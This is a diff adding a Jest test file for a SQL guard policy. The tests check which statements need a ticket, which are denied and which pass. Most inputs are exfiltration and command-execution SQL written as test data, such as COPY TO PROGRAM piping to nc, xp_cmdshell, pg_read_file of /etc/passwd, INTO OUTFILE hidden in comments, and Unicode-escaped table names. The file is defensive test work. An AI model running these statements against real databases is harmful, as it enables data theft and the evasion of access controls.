@@ -1,0 +1,148 @@
+import { describe, expect, test } from '@jest/globals';
+import { judgeStatement } from '../../policy/index.ts';
+import { GUARDED, NOTHING_PROTECTED, RECORDED } from './policies.ts';
+
+const verdict = (sql: string): string => judgeStatement(sql, GUARDED).verdict;
+
+describe('export statements need a ticket', () => {
+  test.each([
+    'COPY shop.stock TO STDOUT',
+    "copy (select 1) to '/tmp/x' with csv",
+    'COPY INTO @stage/x FROM shop.stock',
+    "COPY INTO 's3://b/x' FROM shop.stock",
+    "SELECT a FROM stock INTO OUTFILE '/tmp/x'",
+    "SELECT a INTO DUMPFILE '/tmp/x' FROM stock",
+    "SELECT a FROM stock /*!50000 INTO OUTFILE '/tmp/x' */",
+    "SELECT a FROM stock /*M!100100 INTO OUTFILE '/tmp/x' */",
+    "SELECT a FROM stock INTO/**/OUTFILE '/tmp/x'",
+    "SELECT '\\'' , a FROM stock INTO OUTFILE '/tmp/x' -- '",
+    "SELECT a FROM stock /* /* */ INTO OUTFILE '/tmp/x'",
+    "SELECT a FROM stock --1 INTO OUTFILE '/tmp/x'",
+    "UNLOAD ('select 1') TO 's3://b/x'",
+    "EXPORT DATA OPTIONS(uri='gs://b/*') AS SELECT 1",
+    'EXPORT t INTO CSV',
+    "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1",
+    'BACKUP DATABASE shop TO DISK = 1',
+    "SELECT lo_export(1, '/tmp/x')",
+    "SELECT * FROM dblink('host=h', 'select 1') AS t(a int)",
+    "SELECT pg_read_file('/etc/passwd')",
+    'CREATE SUBSCRIPTION s CONNECTION x PUBLICATION p',
+    'CREATE DATABASE LINK l',
+    "DO $$ BEGIN COPY stock TO '/tmp/x'; END $$",
+    "DO $$ BEGIN EXECUTE 'COPY stock TO STDOUT'; END $$",
+    "PREPARE s FROM 'SELECT 1 INTO OUTFILE ''/tmp/x'''",
+    "\\copy stock to '/tmp/x'",
+    "\\copy (\nselect 1\n) to '/tmp/x'",
+    '\\o /tmp/x',
+    'select 1 \\g /tmp/x',
+    'select 1 \\; copy stock to stdout',
+    '.dump',
+    '.output /tmp/x',
+    'tee /tmp/x',
+    "VACUUM INTO '/tmp/x.db'",
+  ])('%s', (sql) => {
+    expect(verdict(sql)).toBe('needs_ticket');
+  });
+});
+
+describe('what hands control away is denied', () => {
+  test.each([
+    "COPY stock TO PROGRAM 'nc h 1'",
+    "COPY stock FROM PROGRAM 'id'",
+    "EXEC xp_cmdshell 'dir'",
+    '\\! scp a h:',
+    'select 1 \\gexec',
+    '\\i /tmp/x.sql',
+    '.shell scp a h:',
+    '.read /tmp/x',
+    'source /tmp/x.sql',
+    'system scp a h:',
+    'pager nc h 1',
+    'EXECUTE IMMEDIATE @s',
+    'PREPARE s FROM @q',
+    'SELECT * FROM U&"\\006dembers"',
+  ])('%s', (sql) => {
+    expect(verdict(sql)).toBe('deny');
+  });
+});
+
+describe('rows of a protected table need a ticket', () => {
+  test.each([
+    'SELECT * FROM shop.members',
+    'select name from members where id = 1',
+    'SELECT * FROM shop . "members"',
+    'SELECT * FROM `shop`.`members`',
+    'SELECT * FROM "shop.members"',
+    'SELECT * FROM MEMBERS',
+    'TABLE shop.members',
+    'WITH m AS (SELECT * FROM shop.members) SELECT * FROM m',
+    'SELECT count(*), name FROM members',
+    'SELECT count(*) FROM members GROUP BY name',
+    'SELECT count(*) FROM stock UNION SELECT name FROM members',
+    'SELECT string_agg(name, 1) FROM members',
+    'SELECT count((SELECT name FROM members)) FROM stock',
+    'SELECT * FROM members LIMIT 1000',
+    'SELECT * FROM members LIMIT 5 OFFSET 10',
+    'SELECT * FROM members LIMIT 10, 10',
+    'SELECT group_concat(name) FROM members LIMIT 1',
+    'CREATE TABLE x AS SELECT * FROM members',
+    'CREATE VIEW x AS SELECT * FROM members',
+    'CREATE TABLE x TABLE members',
+    'INSERT INTO x SELECT * FROM members',
+    'ALTER TABLE members RENAME TO x',
+    'RENAME TABLE members TO x',
+    'UPDATE members SET a = 1 RETURNING *',
+    'DELETE FROM members OUTPUT deleted.*',
+    'DECLARE c CURSOR FOR SELECT * FROM members',
+    'HANDLER members OPEN',
+    'SELECT 1; SELECT * FROM members',
+    'DO $$ BEGIN PERFORM name FROM members; END $$',
+  ])('%s', (sql) => {
+    expect(judgeStatement(sql, GUARDED)).toMatchObject({ verdict: 'needs_ticket' });
+  });
+
+  test('the finding names the table', () => {
+    expect(judgeStatement('SELECT * FROM members', GUARDED).findings).toEqual([
+      { rule: 'sql.read', class: 'bulk_read', span: [0, 6], subject: 'SELECT', assets: ['shop.members'] },
+    ]);
+  });
+});
+
+describe('ordinary SQL passes', () => {
+  test.each([
+    'SELECT * FROM stock',
+    'SELECT count(*) FROM members',
+    'SELECT count(*) AS n, max(id) FROM shop.members WHERE city = 1;',
+    'SELECT id, name FROM members LIMIT 10',
+    'EXPLAIN SELECT * FROM members',
+    'DESCRIBE members',
+    'INSERT INTO members VALUES (1)',
+    'UPDATE members SET a = 1 WHERE id = 2',
+    'DELETE FROM members WHERE id = 1',
+    'CREATE INDEX i ON members (a)',
+    'ANALYZE members',
+    "SELECT 'COPY members TO STDOUT'",
+    '-- COPY stock TO STDOUT\nSELECT 1',
+    "COPY stock FROM '/tmp/x'",
+    'COPY INTO stock FROM @stage',
+    "\\copy stock from '/tmp/x'",
+    '\\dt',
+    '.tables',
+    'DROP DATABASE LINK l',
+    'SELECT a.source, a.system FROM stock a',
+    'source.name := 1',
+    '',
+  ])('%s', (sql) => {
+    expect(judgeStatement(sql, GUARDED)).toMatchObject({ verdict: 'allow', findings: [] });
+  });
+
+  test.each([RECORDED, NOTHING_PROTECTED])(
+    'and everything passes, with its findings, where nothing is guarded',
+    (policy) => {
+      expect(judgeStatement('COPY stock TO STDOUT', policy)).toMatchObject({
+        verdict: 'allow',
+        findings: [{ rule: 'sql.copy-to' }],
+      });
+    },
+  );
+});
